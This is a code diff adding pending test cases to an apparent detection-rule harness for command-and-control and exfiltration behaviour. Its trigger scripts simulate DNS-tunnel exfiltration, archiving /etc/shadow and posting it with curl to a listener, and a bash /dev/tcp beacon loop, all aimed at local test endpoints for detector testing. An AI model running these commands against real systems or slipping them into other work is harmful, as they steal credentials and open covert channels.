@@ -146,3 +146,38 @@ BENIGN = [
             timeout 2 curl -s -m 1 -H 'Accept: application/json' "http://127.0.0.1:$DET_PORT/health" || true
          ''', where=BOTH, needs=["curl"]),
 ]
+
+# Sequence and threshold rules (rules/pending/c2.yaml): run with --pending.
+CASES += [
+    Case(id="c2.pending.dns_query_burst", tactic="command_and_control", technique="T1071.004",
+         rules=["DNS Query Burst from One Process"], pending=True,
+         trigger=r'''
+            /usr/bin/python3 - <<'EOF'
+import base64, os, socket
+data = base64.b32encode(os.urandom(600)).decode().lower().rstrip("=")
+for i in range(0, len(data), 30):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect(("127.0.0.1", 53))
+    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    for label in (data[i:i + 30], "t", "example"):
+        q += bytes([len(label)]) + label.encode()
+    s.send(q + b"\x00\x00\x10\x00\x01")
+    s.close()
+EOF
+         ''', where=BOTH),
+    Case(id="c2.pending.credential_archive_sent", tactic="exfiltration", technique="T1048",
+         rules=["Credential Archive Sent Over the Network"], pending=True,
+         trigger=r'''
+            det_listen_tcp 127.0.0.1 "$DET_PORT"
+            tar czf "$DET_DIR/l.tgz" /etc/shadow 2>/dev/null || true
+            timeout 3 curl -s -m 2 --data-binary "@$DET_DIR/l.tgz" "http://127.0.0.1:$DET_PORT/" || true
+         ''', where=BOTH, needs=["curl"]),
+    Case(id="c2.pending.beacon_loop", tactic="command_and_control", technique="T1071",
+         rules=["Periodic Beacon from Shell or Interpreter"], pending=True,
+         trigger=r'''
+            det_ns_listen 8088
+            for i in $(seq 1 25); do
+                timeout 2 bash -c 'echo "ping '"$i"'" > /dev/tcp/'"$DET_NS_ADDR"'/8088' || true
+            done
+         ''', where=("host",)),
+]
